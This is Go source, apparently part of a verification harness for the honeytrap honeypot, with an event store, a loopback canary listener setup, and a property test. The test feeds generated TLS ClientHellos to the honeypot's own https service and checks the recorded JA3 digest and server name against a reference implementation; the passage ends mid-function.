	if sink != nil {
		sink(c)
	}
}

func (s *Store) Len() int { s.mu.Lock(); defer s.mu.Unlock(); return s.base + len(s.evs) }

// Forget releases the events captured before index n (indices stay absolute). Long workloads that judge every
// scenario on the events since its start call it between scenarios, so that the store does not grow with the run.
func (s *Store) Forget(n int) {
	s.mu.Lock()
	defer s.mu.Unlock()
	k := n - s.base
	if k <= 0 {
		return
	}
	if k > len(s.evs) {
		k = len(s.evs)
	}
	s.evs = append([]Captured(nil), s.evs[k:]...)
	s.base += k
}

// from is the position in evs of absolute index n.
func (s *Store) from(n int) int {
	n -= s.base
	if n < 0 {
		n = 0
	}
	if n > len(s.evs) {
		n = len(s.evs)
	}
	return n
}

// Since returns the events captured at or after index n.
func (s *Store) Since(n int) []Captured {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]Captured(nil), s.evs[s.from(n):]...)
}

// WaitFor waits until pred holds over the events since n, or max elapses.
// It returns as soon as pred holds, so a satisfied wait is fast; max is only
// spent when something is missing.
func (s *Store) WaitFor(n int, pred func([]Captured) bool, max time.Duration) bool {
	deadline := time.Now().Add(max)
	timer := time.AfterFunc(max, func() { s.mu.Lock(); s.cond.Broadcast(); s.mu.Unlock() })
	defer timer.Stop()
	s.mu.Lock()
	defer s.mu.Unlock()
	for {
		if pred(s.evs[s.from(n):]) {
			return true
		}
		if time.Now().After(deadline) {
			return false
		}
		s.cond.Wait()
	}
}

// Settle waits until no new event arrived for quiet, at most max.
func (s *Store) Settle(quiet, max time.Duration) {
	deadline := time.Now().Add(max)
	last := s.Len()
	t := time.Now()
	for time.Now().Before(deadline) {
		time.Sleep(quiet / 4)
		if n := s.Len(); n != last {
			last = n
			t = time.Now()
		} else if time.Since(t) >= quiet {
			return
		}
	}
}

func min(a, b int) int {
	if a < b {
		return a
	}
	return b
}

// EncodeEvent renders an event with type tags; strings and byte slices as hex.
func EncodeEvent(e event.Event) core.EvRec {
	rec := core.EvRec{KV: map[string]core.TV{}}
	e.Range(func(k, v interface{}) bool {
		ks, ok := k.(string)
		if !ok {
			ks = fmt.Sprintf("!nonstring-key:%v", k)
		}
		rec.KV[ks] = encodeValue(v)
		return true
	})
	jb, err := json.Marshal(e)
	if err != nil {
		rec.JSONErr = err.Error()
	} else {
		var m map[string]json.RawMessage
		if err := json.Unmarshal(jb, &m); err != nil {
			rec.JSONErr = "not an object: " + err.Error()
		} else {
			for k := range m {
				rec.JSONKeys = append(rec.JSONKeys, k)
			}
			sort.Strings(rec.JSONKeys)
		}
	}
	return rec
}

func encodeValue(v interface{}) core.TV {
	switch x := v.(type) {
	case nil:
		return core.TV{T: "nil"}
	case string:
		return core.TV{T: "string", H: hex.EncodeToString([]byte(x))}
	case []byte:
		return core.TV{T: "[]byte", H: hex.EncodeToString(x)}
	case bool:
		return core.TV{T: "bool", V: x}
	case int:
		return core.TV{T: "int", V: int64(x)}
	case int8, int16, int32, int64, uint, uint8, uint16, uint32, uint64:
		return core.TV{T: fmt.Sprintf("%T", v), V: fmt.Sprintf("%d", v)}
	case float32, float64:
		return core.TV{T: fmt.Sprintf("%T", v), V: fmt.Sprintf("%v", v)}
	case time.Time:
		return core.TV{T: "time", V: x.Format(time.RFC3339Nano)}
	case time.Duration:
		return core.TV{T: "duration", V: int64(x)}
	case []string:
		return core.TV{T: "[]string", V: x}
	case net.IP:
		return core.TV{T: "net.IP", V: x.String()}
	case error:
		return core.TV{T: "error", V: x.Error()}
	case fmt.Stringer:
		return core.TV{T: fmt.Sprintf("%T", v), V: x.String()}
	default:
		return core.TV{T: fmt.Sprintf("%T", v), V: fmt.Sprintf("%v", v)}
	}
}

// Str returns the string value of a key ("" if absent or not a string).
func Str(r core.EvRec, k string) string {
	tv, ok := r.KV[k]
	if !ok || tv.T != "string" {
		return ""
	}
	b, _ := hex.DecodeString(tv.H)
	return string(b)
}

// Int returns the integer value of a key (any integer type), ok=false if absent.
func Int(r core.EvRec, k string) (int64, bool) {
	tv, ok := r.KV[k]
	if !ok {
		return 0, false
	}
	switch x := tv.V.(type) {
	case int64:
		return x, true
	case float64:
		return int64(x), true
	case string:
		var n int64
		if _, err := fmt.Sscanf(x, "%d", &n); err == nil {
			return n, true
		}
	case json.Number:
		n, err := x.Int64()
		return n, err == nil
	}
	return 0, false
}
