package lab

import (
	"context"
	"fmt"
	"github.com/BurntSushi/toml"
	"net"
	"syscall"

	"github.com/honeytrap/honeytrap/event"
	"github.com/honeytrap/honeytrap/listener/canary"
	"github.com/honeytrap/honeytrap/pushers"
)

// chanCapture is a capture channel usable without the registry.
type chanCapture struct{ id string }

func (c chanCapture) Send(e event.Event) { Events.add(c.id, 0, e) }

// NewCapture returns a pushers.Channel that records into Events under id.
func NewCapture(id string) pushers.Channel { return chanCapture{id} }

// CanaryHost is a raw listener built by the verif constructor.
type CanaryHost struct {
	C   *canary.Canary
	Fd  int // harness end of the socketpair: write link-layer frames here
	ID  string
	Ifc net.Interface
	// Me2: the address of a second interface the listener owns (CanarySecondInterface), nil if the host has none
	Me2  net.IP
	stop context.CancelFunc
}

// CanarySecondInterface makes StartCanary give the listener the first other interface with an IPv4 address as well
// (a sensor with several addresses).
var CanarySecondInterface bool

var (
	PeerMAC = net.HardwareAddr{0x02, 0x00, 0x5e, 0x10, 0x00, 0x01}
	GwMAC   = net.HardwareAddr{0x02, 0x00, 0x5e, 0x10, 0x00, 0xfe}
	GwIP    = net.IPv4(10, 255, 0, 1)
)

// StartCanary builds a Canary on the real `lo` interface (so the unmodified
// isMe() treats 127.0.0.1 as "me"). tables: "direct" = ARP entries for the
// given peers (+ default route and gateway entry), "gateway" = only a default
// route and an ARP entry for its gateway, "none" = neither, "route-only" = a
// default route through an unresolved gateway, "onlink" = a 0.0.0.0-gateway
// route only, "mixed" = some peers resolved, some behind an unresolved gateway. With loop=true the
// real Start() receive loop and knock detector run.
// CanaryConfig is a TOML fragment with listener options (e.g. "do_arp=true") decoded into every Canary that
// StartCanary builds; empty = defaults.
var CanaryConfig string

func StartCanary(id, tables string, peers []net.IP, loop bool) (*CanaryHost, error) {
	ifc, err := net.InterfaceByName("lo")
	if err != nil {
		return nil, err
	}
	if len(ifc.HardwareAddr) == 0 {
		ifc.HardwareAddr = net.HardwareAddr{0, 0, 0, 0, 0, 0}
	}
	var ac canary.ARPCache
	var rt canary.RouteTable
	def := canary.Route{Interface: "lo", Gateway: GwIP, Destination: net.IPNet{IP: net.IPv4(0, 0, 0, 0), Mask: net.IPv4Mask(0, 0, 0, 0)}}
	switch tables {
	case "direct":
		for _, p := range peers {
			ac = append(ac, canary.ARPEntry{IP: p, HardwareAddress: PeerMAC, Interface: "lo"})
		}
		ac = append(ac, canary.ARPEntry{IP: GwIP, HardwareAddress: GwMAC, Interface: "lo"})
		rt = append(rt, def)
	case "gateway":
		ac = append(ac, canary.ARPEntry{IP: GwIP, HardwareAddress: GwMAC, Interface: "lo"})
		rt = append(rt, def)
	case "route-only":
		// a default route whose gateway was never resolved: no ARP entry at all
		rt = append(rt, def)
	case "onlink":
		// the on-link route of the interface (gateway 0.0.0.0), peers unresolved
		rt = append(rt, canary.Route{Interface: "lo", Gateway: net.IPv4(0, 0, 0, 0), Destination: net.IPNet{IP: net.IPv4(0, 0, 0, 0), Mask: net.IPv4Mask(0, 0, 0, 0)}})
	case "mixed":
		// every other peer resolved; a narrower route through an unresolved gateway in front of the default route
		for i, p := range peers {
			if i%2 == 1 {
				ac = append(ac, canary.ARPEntry{IP: p, HardwareAddress: PeerMAC, Interface: "lo"})
			}
		}
		ac = append(ac, canary.ARPEntry{IP: GwIP, HardwareAddress: GwMAC, Interface: "lo"})
		for i, p := range peers {
			if i%4 == 0 {
				rt = append(rt, canary.Route{Interface: "lo", Gateway: net.IPv4(10, 255, 0, 9), Destination: net.IPNet{IP: p.Mask(net.CIDRMask(24, 32)), Mask: net.CIDRMask(24, 32)}})
			}
		}
		rt = append(rt, def)
	case "none":
	default:
		return nil, fmt.Errorf("unknown tables mode %q", tables)
	}
	c, fd, err := canary.NewVerif(*ifc, ac, rt, NewCapture(id))
	if err != nil {
		return nil, err
	}
	if CanaryConfig != "" {
		// the listener's own configuration keys, applied through the decoder the server uses for the
		// [listener] table: whatever an operator can switch on is switched on here
		if _, err := toml.Decode(CanaryConfig, c); err != nil {
			return nil, fmt.Errorf("listener configuration: %v", err)
		}
	}
	h := &CanaryHost{C: c, Fd: fd, ID: id, Ifc: *ifc}
	if CanarySecondInterface {
		ifs, _ := net.Interfaces()
		for _, other := range ifs {
			if other.Name == ifc.Name || h.Me2 != nil {
				continue
			}
			addrs, _ := other.Addrs()
			for _, a := range addrs {
				if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil && !n.IP.IsLoopback() {
					c.VerifAddInterface(other)
					h.Me2 = n.IP.To4()
					break
				}
			}
		}
	}
	if loop {
		// never cancelled: cancelling closes the epoll descriptor and the
		// receive loop then calls log.Fatalf (process exit)
		ctx, cancel := context.WithCancel(context.Background())
		h.stop = cancel
		if err := c.Start(ctx); err != nil {
			return nil, err
		}
	}
	return h, nil
}

// Write sends one frame into the real receive loop.
func (h *CanaryHost) Write(frame []byte) error {
	_, err := syscall.Write(h.Fd, frame)
	return err
}
