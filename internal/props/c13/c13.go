// Package c13: the recorded JA3 fingerprint is the specification's JA3 of the
// ClientHello sent. A structural hello generator drives the real https
// service through the dispatcher; the digest and server name in the
// connection's event are compared with an independent JA3 of the raw bytes.
package c13

import (
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"sync"
	"time"

	"verif/htlab/internal/core"
	"verif/htlab/internal/gen"
	"verif/htlab/internal/lab"
	"verif/htlab/internal/ref/ja3"
)

type prop struct{}

func init() { core.Register(prop{}) }

func (prop) ID() string    { return "C13" }
func (prop) Level() string { return "exploration" }
func (prop) Rule() string {
	return "scenario = one structurally generated ClientHello (legacy version SSL3..TLS1.2, 1..40 cipher suites incl. GREASE and SCSV values, 0..20 extensions: known types with well-formed bodies, unknown types, GREASE types, empty bodies, duplicated types except supported_groups/ec_point_formats/server_name, supported_groups with GREASE, 0..3 point formats, with/without SNI from a pool of 6 names), split into 1..4 TLS records and seeded TCP segments, sent to the real https service through the dispatcher; every third scenario is the previous hello with each GREASE value replaced by another GREASE value. Non-trivial = the connection's event was captured; distinct by sha of the hello. Values that resemble GREASE without being it (0x?a?a with different bytes, one byte of a pair, neighbours) are generated on purpose; every fourth scenario is a sibling of an earlier hello on the same service instance that differs in exactly one fingerprint field. The SNI pool contains a mixed-case name. Batch hellos-concurrent: the first hellos again, 16 connections at a time."
}
func (prop) Assumptions() []string {
	return []string{"every generated hello is well-formed for the service's parser (null compression offered, empty renegotiation_info)", "the handshake is not completed: the client reads the server flight and closes; the event of the failed handshake carries digest and server name"}
}

// host names are recorded as sent, upper case included (a trailing dot is not generated: RFC 6066 forbids it and
// the TLS stack rejects such a hello as malformed before anything can be fingerprinted)
var sniPool = []string{"", "a.test", "b.test", "www.example.test", "x1.test", "long-name-for-sni.example.test", "WWW.Example.TEST", "c.test"}

var knownCiphers = []uint16{0x002f, 0x0035, 0x000a, 0x009c, 0x009d, 0xc013, 0xc014, 0xc02f, 0xc030, 0xc02b, 0xc02c, 0xcca8, 0xcca9, 0x0005, 0xc011, 0x003c, 0xc027, 0x1301, 0x1302, 0x1303, 0x00ff, 0x5600, 0x0000, 0xffff}
var greaseVals = []uint16{0x0a0a, 0x1a1a, 0x2a2a, 0x3a3a, 0x4a4a, 0x5a5a, 0x6a6a, 0x7a7a, 0x8a8a, 0x9a9a, 0xaaaa, 0xbaba, 0xcaca, 0xdada, 0xeaea, 0xfafa}

type ext struct {
	T    uint16
	Body []byte
}

type hello struct {
	Vers    uint16
	Session []byte
	Ciphers []uint16
	Comp    []byte
	Exts    []ext
	NoExt   bool
	Records int
	Seg     int
	SNI     string
}

// nearGrease returns a value that looks like a GREASE value without being one: both low nibbles 0xA but
// different bytes, one byte of a GREASE pair, or a neighbour of one. The specification keeps all of them.
func nearGrease(r *core.Rng) uint16 {
	g := greaseVals[r.Intn(16)]
	switch r.Intn(5) {
	case 0:
		return g&0xff00 | greaseVals[r.Intn(16)]&0x00ff ^ 0x10 // 0x?a?a with different bytes (or equal -> fixed below)
	case 1:
		return g & 0xff00
	case 2:
		return g & 0x00ff
	case 3:
		return g + 1
	default:
		return g - 1
	}
}

func mkHello(r *core.Rng) hello {
	h := hello{Vers: uint16(r.PickI([]int{0x0300, 0x0301, 0x0302, 0x0303, 0x0303, 0x0303}))}
	h.Session = r.Bytes(r.PickI([]int{0, 0, 32, 16}))
	for i := r.Range(1, 40); i > 0; i-- {
		switch r.Intn(8) {
		case 0:
			h.Ciphers = append(h.Ciphers, greaseVals[r.Intn(16)])
		case 1:
			if r.Bool() {
				h.Ciphers = append(h.Ciphers, uint16(r.Intn(65536)))
			} else if v := nearGrease(r); !ja3.IsGREASE(v) {
				h.Ciphers = append(h.Ciphers, v)
			}
		default:
			h.Ciphers = append(h.Ciphers, knownCiphers[r.Intn(len(knownCiphers))])
		}
	}
	h.Comp = []byte{0}
	if r.Chance(1, 5) {
		h.Comp = []byte{1, 0}
	}
	if r.Chance(1, 12) {
		h.NoExt = true
	}
	h.SNI = sniPool[r.Intn(len(sniPool))]
	if h.NoExt {
		h.SNI = ""
	}
	ne := r.Range(0, 20)
	used := map[uint16]bool{}
	u16 := func(v int) []byte { return []byte{byte(v >> 8), byte(v)} }
	for i := 0; i < ne; i++ {
		var e ext
		switch r.Intn(16) {
		case 0:
			e.T = 10
			var c []byte
			for j := r.Range(0, 8); j > 0; j-- {
				v := uint16(r.PickI([]int{23, 24, 25, 29, 30, 256, 257, 0, 65535}))
				if r.Chance(1, 4) {
					v = greaseVals[r.Intn(16)]
				} else if r.Chance(1, 5) {
					if n := nearGrease(r); !ja3.IsGREASE(n) {
						v = n
					}
				}
				c = append(c, byte(v>>8), byte(v))
			}
			e.Body = append(u16(len(c)), c...)
		case 1:
			e.T = 11
			n := r.Range(0, 3)
			e.Body = append([]byte{byte(n)}, []byte{0, 1, 2}[:n]...)
			if r.Chance(1, 5) && n > 0 {
				e.Body[1] = byte(r.Intn(256))
			}
		case 2:
			e.T = 13
			var a []byte
			for j := r.Range(1, 8); j > 0; j-- {
				a = append(a, byte(r.PickI([]int{4, 5, 6, 8, 2})), byte(r.PickI([]int{1, 3, 4, 5})))
			}
			e.Body = append(u16(len(a)), a...)
		case 3:
			e.T = 16
			var p []byte
			for _, s := range []string{"h2", "http/1.1"}[:r.Range(1, 2)] {
				p = append(p, byte(len(s)))
				p = append(p, s...)
			}
			e.Body = append(u16(len(p)), p...)
		case 4:
			e.T, e.Body = 5, []byte{1, 0, 0, 0, 0}
		case 5:
			e.T, e.Body = 35, r.Bytes(r.PickI([]int{0, 0, 32}))
		case 6:
			e.T = 18
		case 7:
			e.T, e.Body = 0xff01, []byte{0}
		case 8:
			e.T = uint16(r.PickI([]int{23, 22, 13172, 49}))
		case 9:
			e.T, e.Body = 21, make([]byte, r.Range(0, 64))
		case 10:
			e.T, e.Body = 43, []byte{4, 3, 4, 3, 3}
		case 11:
			e.T, e.Body = 51, append(u16(36), append([]byte{0, 29, 0, 32}, r.Bytes(32)...)...)
		case 12, 13:
			e.T = greaseVals[r.Intn(16)]
			if r.Chance(1, 4) {
				if n := nearGrease(r); !ja3.IsGREASE(n) && n > 60 {
					e.T = n // an unknown extension type that only resembles GREASE
				}
			}
			if r.Bool() {
				e.Body = []byte{0}
			}
		default:
			e.T = uint16(r.PickI([]int{1, 2, 3, 4, 6, 7, 8, 9, 12, 14, 15, 17, 19, 20, 24, 27, 28, 41, 42, 44, 45, 47, 48, 50, 17513, 30032, 65037, r.Intn(65536)}))
			if e.T == 0 || e.T == 10 || e.T == 11 || e.T == 13 || e.T == 16 || e.T == 5 || e.T == 18 || e.T == 0xff01 || e.T == 13172 {
				e.T = 61
			}
			e.Body = r.Bytes(r.PickI([]int{0, 1, 2, 7, 40}))
		}
		if (e.T == 10 || e.T == 11) && used[e.T] {
			continue // never duplicate the two extensions whose bodies JA3 reads
		}
		used[e.T] = true
		h.Exts = append(h.Exts, e)
	}
	if h.SNI != "" {
		n := []byte(h.SNI)
		entry := append([]byte{0}, u16(len(n))...)
		entry = append(entry, n...)
		list := entry
		if r.Chance(1, 5) {
			// RFC 6066: the list may hold names of other types, which a server skips; the host name need
			// not come first
			other := append([]byte{byte(r.PickI([]int{1, 7, 255}))}, u16(6)...)
			other = append(other, "opaque"...)
			if r.Bool() {
				list = append(other, entry...)
			} else {
				list = append(append([]byte(nil), entry...), other...)
			}
		}
		b := append(u16(len(list)), list...)
		at := r.Intn(len(h.Exts) + 1)
		h.Exts = append(h.Exts[:at:at], append([]ext{{0, b}}, h.Exts[at:]...)...)
	}
	h.Records = r.Range(1, 4)
	h.Seg = r.Intn(4)
	return h
}

// regrease returns the same hello with every GREASE value replaced by another GREASE value.
func regrease(h hello, r *core.Rng) hello {
	other := func(v uint16) uint16 {
		for {
			g := greaseVals[r.Intn(16)]
			if g != v {
				return g
			}
		}
	}
	o := h
	o.Ciphers = append([]uint16(nil), h.Ciphers...)
	for i, c := range o.Ciphers {
		if ja3.IsGREASE(c) {
			o.Ciphers[i] = other(c)
		}
	}
	o.Exts = nil
	for _, e := range h.Exts {
		ne := ext{e.T, append([]byte(nil), e.Body...)}
		if ja3.IsGREASE(e.T) {
			ne.T = other(e.T)
		}
		if e.T == 10 {
			for i := 2; i+1 < len(ne.Body); i += 2 {
				v := uint16(ne.Body[i])<<8 | uint16(ne.Body[i+1])
				if ja3.IsGREASE(v) {
					g := other(v)
					ne.Body[i], ne.Body[i+1] = byte(g>>8), byte(g)
				}
			}
		}
		o.Exts = append(o.Exts, ne)
	}
	return o
}

func (h hello) marshal(random []byte) []byte {
	b := []byte{byte(h.Vers >> 8), byte(h.Vers)}
	b = append(b, random...)
	b = append(b, byte(len(h.Session)))
	b = append(b, h.Session...)
	b = binary.BigEndian.AppendUint16(b, uint16(2*len(h.Ciphers)))
	for _, c := range h.Ciphers {
		b = binary.BigEndian.AppendUint16(b, c)
	}
	b = append(b, byte(len(h.Comp)))
	b = append(b, h.Comp...)
	if !h.NoExt {
		var e []byte
		for _, x := range h.Exts {
			e = binary.BigEndian.AppendUint16(e, x.T)
			e = binary.BigEndian.AppendUint16(e, uint16(len(x.Body)))
			e = append(e, x.Body...)
		}
		b = binary.BigEndian.AppendUint16(b, uint16(len(e)))
		b = append(b, e...)
	}
	return append([]byte{1, byte(len(b) >> 16), byte(len(b) >> 8), byte(len(b))}, b...)
}

func records(msg []byte, n int, r *core.Rng) []byte {
	var out []byte
	cuts := []int{0}
	for i := 1; i < n && len(msg) > i; i++ {
		cuts = append(cuts, r.Range(1, len(msg)-1))
	}
	cuts = append(cuts, len(msg))
	sortInts(cuts)
	for i := 0; i+1 < len(cuts); i++ {
		frag := msg[cuts[i]:cuts[i+1]]
		if len(frag) == 0 {
			continue
		}
		out = append(out, 22, 3, 1, byte(len(frag)>>8), byte(len(frag)))
		out = append(out, frag...)
	}
	return out
}

func sortInts(a []int) {
	for i := 1; i < len(a); i++ {
		for j := i; j > 0 && a[j] < a[j-1]; j-- {
			a[j], a[j-1] = a[j-1], a[j]
		}
	}
}

// scenarioHello regenerates the hello of scenario idx (and whether it is a GREASE variant of idx-1).
func scenarioHello(seed int64, idx int) (hello, []byte, bool) {
	// groups of four: a hello, an unrelated one, the second with its GREASE values replaced, and a sibling of the
	// second that differs from it in exactly one fingerprint field (sent to the same service instance right
	// after it: a fingerprint must not depend on hellos seen before)
	base := idx
	variant := idx%4 == 2
	sib := idx%4 == 3
	if variant {
		base = idx - 1
	}
	if sib {
		base = idx - 2
	}
	r := core.NewRng(seed, "C13", base)
	h := mkHello(r)
	random := r.Bytes(32)
	if variant {
		h = regrease(h, core.NewRng(seed, "C13/regrease", idx))
	}
	if sib {
		h = sibling(h, core.NewRng(seed, "C13/sibling", idx))
	}
	return h, h.marshal(random), variant
}

// sibling returns the hello changed in one fingerprint field only: the supported groups, the point formats, the
// order of the cipher suites, the order of two extensions, or the version.
func sibling(h hello, r *core.Rng) hello {
	o := h
	o.Ciphers = append([]uint16(nil), h.Ciphers...)
	o.Exts = nil
	for _, e := range h.Exts {
		o.Exts = append(o.Exts, ext{e.T, append([]byte(nil), e.Body...)})
	}
	find := func(t uint16) int {
		for i, e := range o.Exts {
			if e.T == t {
				return i
			}
		}
		return -1
	}
	choice := r.Intn(6)
	if g := find(10); g >= 0 && choice < 3 {
		var c []byte
		for j := r.Range(1, 5); j > 0; j-- {
			v := uint16(r.PickI([]int{23, 24, 25, 29, 30, 256, 257, 4588}))
			c = append(c, byte(v>>8), byte(v))
		}
		o.Exts[g].Body = append([]byte{byte(len(c) >> 8), byte(len(c))}, c...)
		if string(o.Exts[g].Body) != string(h.Exts[g].Body) {
			return o
		}
	}
	if p := find(11); p >= 0 && choice < 5 {
		n := r.Range(0, 3)
		nb := append([]byte{byte(n)}, []byte{2, 1, 0}[:n]...)
		if string(nb) != string(o.Exts[p].Body) {
			o.Exts[p].Body = nb
			return o
		}
	}
	if len(o.Ciphers) > 1 && o.Ciphers[0] != o.Ciphers[len(o.Ciphers)-1] && r.Bool() {
		o.Ciphers[0], o.Ciphers[len(o.Ciphers)-1] = o.Ciphers[len(o.Ciphers)-1], o.Ciphers[0]
		return o
	}
	if len(o.Exts) > 1 && o.Exts[0].T != o.Exts[len(o.Exts)-1].T && r.Bool() {
		o.Exts[0], o.Exts[len(o.Exts)-1] = o.Exts[len(o.Exts)-1], o.Exts[0]
		return o
	}
	o.Vers = []uint16{0x0301, 0x0302, 0x0303, 0x0300}[(int(h.Vers)+1)%4]
	return o
}

type params struct {
	Off int `json:"off"`
	// Conc > 1: that many exchanges run at the same time
	Conc int `json:"conc,omitempty"`
}

func (prop) Plan(tier string, seed int64) []core.Batch {
	n, chunks := 1500, 3
	if tier == "thorough" {
		n, chunks = 48000, 12
	}
	var plan []core.Batch
	per := n / chunks
	for c := 0; c < chunks; c++ {
		p, _ := json.Marshal(params{Off: c * per})
		plan = append(plan, core.Batch{Name: fmt.Sprintf("hellos/%d", c), N: per, Params: p, Timeout: 1800})
	}
	// the first hellos again, 16 connections at a time
	nc := 3200
	if tier == "thorough" {
		nc = 32000
	}
	pc, _ := json.Marshal(params{Off: 0, Conc: 16})
	plan = append(plan, core.Batch{Name: "hellos-concurrent", N: nc, Params: pc, Timeout: 1800})
	return plan
}

type obs struct {
	Event  bool   `json:"event"`
	Type   string `json:"type"`
	Digest string `json:"digest"`
	SNI    string `json:"sni"`
	Reply  int    `json:"reply"`
}

func (prop) Child(b core.Batch, o *core.Obs) {
	var p params
	b.P(&p)
	srv, err := lab.Start("[listener]\ntype=\"lab\"\n[channel.cap0]\ntype=\"lab-capture\"\nid=\"cap0\"\n[[filter]]\nchannel=[\"cap0\"]\n[service.https]\ntype=\"https\"\n[[port]]\nport=\"tcp/443\"\nservices=[\"https\"]\n")
	if err != nil {
		o.Emit(core.Rec{T: "starterr", S: err.Error()})
		return
	}
	to := b.To
	if to == 0 {
		to = b.N
	}
	if p.Conc > 1 {
		// the same exchanges, p.Conc of them at the same time (fingerprints are taken on the handlers' goroutines)
		for base := b.From; base < to; base += p.Conc {
			o.Begin(base)
			var wg sync.WaitGroup
			for k := base; k < base+p.Conc && k < to; k++ {
				wg.Add(1)
				go func(k int) {
					defer wg.Done()
					o.EmitXK("obs", k, exchange(srv, b.Seed, p.Off+k, k))
				}(k)
			}
			wg.Wait()
			o.End(base)
		}
		return
	}
	for k := b.From; k < to; k++ {
		h, msg, _ := scenarioHello(b.Seed, p.Off+k)
		r := core.NewRng(b.Seed, "C13/wire", p.Off+k)
		wire := records(msg, h.Records, r)
		o.Begin(k)
		port := 10000 + k%50000
		ip := fmt.Sprintf("203.0.%d.%d", 113+(k/50000), 1+k%200)
		ev0 := lab.Events.Len()
		cc := srv.L.DialTCP(lab.TCPAddr("10.0.0.1", 443), lab.TCPAddr(ip, port))
		cl := lab.NewClient(cc)
		cl.SendCuts(wire, gen.Cuts(r, len(wire), h.Seg), 3*time.Second)
		// the first use of a server name makes the service generate an RSA-4096 certificate (seconds)
		cl.WaitIdle(25 * time.Second)
		ob := obs{Reply: len(cl.Received())}
		cl.Close()
		mine := func(evs []lab.Captured) *lab.Captured {
			for i := range evs {
				sp, _ := lab.Int(evs[i].Rec, "source-port")
				if int(sp) == port && lab.Str(evs[i].Rec, "source-ip") == ip && lab.Str(evs[i].Rec, "category") == "https" {
					return &evs[i]
				}
			}
			return nil
		}
		lab.Events.WaitFor(ev0, func(evs []lab.Captured) bool { return mine(evs) != nil }, 5*time.Second)
		if e := mine(lab.Events.Since(ev0)); e != nil {
			ob.Event = true
			ob.Type = lab.Str(e.Rec, "type")
			ob.Digest = lab.Str(e.Rec, "https.ja3-digest")
			ob.SNI = lab.Str(e.Rec, "https.server-name")
		}
		o.EmitX("obs", ob)
		o.End(k)
	}
}

// exchange sends hello number idx on a connection of its own and returns what was observed for it.
func exchange(srv *lab.Server, seed int64, idx, k int) obs {
	h, msg, _ := scenarioHello(seed, idx)
	r := core.NewRng(seed, "C13/wire", idx)
	wire := records(msg, h.Records, r)
	port := 10000 + k%50000
	ip := fmt.Sprintf("203.0.%d.%d", 113+(k/50000), 1+k%200)
	ev0 := lab.Events.Len()
	cc := srv.L.DialTCP(lab.TCPAddr("10.0.0.1", 443), lab.TCPAddr(ip, port))
	cl := lab.NewClient(cc)
	cl.SendCuts(wire, gen.Cuts(r, len(wire), h.Seg), 3*time.Second)
	cl.WaitIdle(25 * time.Second)
	ob := obs{Reply: len(cl.Received())}
	cl.Close()
	mine := func(evs []lab.Captured) *lab.Captured {
		for i := range evs {
			sp, _ := lab.Int(evs[i].Rec, "source-port")
			if int(sp) == port && lab.Str(evs[i].Rec, "source-ip") == ip && lab.Str(evs[i].Rec, "category") == "https" {
				return &evs[i]
			}
		}
		return nil
	}
	lab.Events.WaitFor(ev0, func(evs []lab.Captured) bool { return mine(evs) != nil }, 5*time.Second)
	if e := mine(lab.Events.Since(ev0)); e != nil {
		ob.Event = true
		ob.Type = lab.Str(e.Rec, "type")
		ob.Digest = lab.Str(e.Rec, "https.ja3-digest")
		ob.SNI = lab.Str(e.Rec, "https.server-name")
	}
	return ob
}

func greaseClass(h hello) string {
	c := ""
	for _, x := range h.Ciphers {
		if ja3.IsGREASE(x) {
			c = "+grease-in-ciphers"
			break
		}
	}
	for _, e := range h.Exts {
		if e.T == 10 {
			for i := 2; i+1 < len(e.Body); i += 2 {
				if ja3.IsGREASE(uint16(e.Body[i])<<8 | uint16(e.Body[i+1])) {
					c += "+grease-in-curves"
					break
				}
			}
		}
	}
	if c == "" {
		return "no-grease-in-ciphers-or-curves"
	}
	return c[1:]
}

func (prop) Judge(b core.Batch, recs []core.Rec, exits []core.Exit) []core.Result {
	var p params
	b.P(&p)
	var out []core.Result
	digests := map[int]string{}
	for _, r := range recs {
		switch r.T {
		case "starterr":
			out = append(out, core.Result{K: r.K, Verdict: core.Inconclusive, What: "server did not start: " + r.S})
		case "obs":
			var ob obs
			if r.XInto(&ob) != nil {
				continue
			}
			idx := p.Off + r.K
			h, msg, variant := scenarioHello(b.Seed, idx)
			ref, err := ja3.Parse(msg)
			res := core.Result{K: r.K, Verdict: core.Held}
			if err != nil {
				res.Verdict = core.Inconclusive
				res.What = "generator produced a hello the reference cannot parse"
				out = append(out, res)
				continue
			}
			digests[idx] = ob.Digest
			if ob.Event {
				res.Key = hex.EncodeToString(msg[:8]) + ref.Digest()
				res.Sample = map[string]interface{}{"legacy_version": h.Vers, "ciphers": len(h.Ciphers), "extensions": len(h.Exts), "sni": h.SNI, "records": h.Records, "ja3_string": ref.String(), "reference_digest": ref.Digest(), "recorded_digest": ob.Digest, "recorded_server_name": ob.SNI, "event_type": ob.Type, "grease_variant_of_previous": variant}
			}
			fail := func(rule, what string) {
				if res.Verdict == core.Violated {
					return
				}
				res.Verdict = core.Violated
				res.Sig = "C13|" + rule
				res.What = what
				res.Witness = map[string]interface{}{"hello_hex": hex.EncodeToString(msg), "ja3_string": ref.String(), "reference_digest": ref.Digest(), "observed": ob, "records": h.Records}
			}
			switch {
			case !ob.Event:
				fail("no-event", "no https event was recorded for the connection")
			case ob.Digest == "":
				fail("digest-empty|"+emptyClass(h), fmt.Sprintf("the connection's event (%s) carries an empty JA3 digest; specification gives %s for %s", ob.Type, ref.Digest(), ref.String()))
			case ob.Digest != ref.Digest():
				cls := greaseClass(h)
				what := fmt.Sprintf("recorded JA3 digest %s, specification gives %s (%s)", ob.Digest, ref.Digest(), clip(ref.String(), 200))
				if idx%4 == 3 && digests[idx-2] == ob.Digest {
					cls += "|digest-of-an-earlier-hello-that-differs-in-one-field"
					what += "; the recorded digest is the one of the hello sent two connections earlier, which differs in one fingerprint field"
				}
				fail("digest-differs|"+cls, what)
			}
			if ob.Event && ob.Digest != "" && ob.SNI != h.SNI {
				fail("server-name", fmt.Sprintf("recorded server name %q, SNI sent %q", ob.SNI, h.SNI))
			}
			if variant {
				if prev, ok := digests[idx-1]; ok && prev != "" && ob.Digest != "" && prev != ob.Digest {
					fail("grease-variants-differ|"+greaseClass(h), fmt.Sprintf("two hellos differing only in GREASE values were recorded with digests %s and %s", prev, ob.Digest))
				}
			}
			out = append(out, res)
		}
	}
	for _, e := range exits {
		if e.Died() {
			out = append(out, core.Result{K: e.LastBegun, Verdict: core.Inconclusive, What: fmt.Sprintf("child died (%s %s)", e.Class, e.Frame)})
		}
	}
	return out
}

func emptyClass(h hello) string {
	switch {
	case h.Vers < 0x0301:
		return "legacy-version-ssl3"
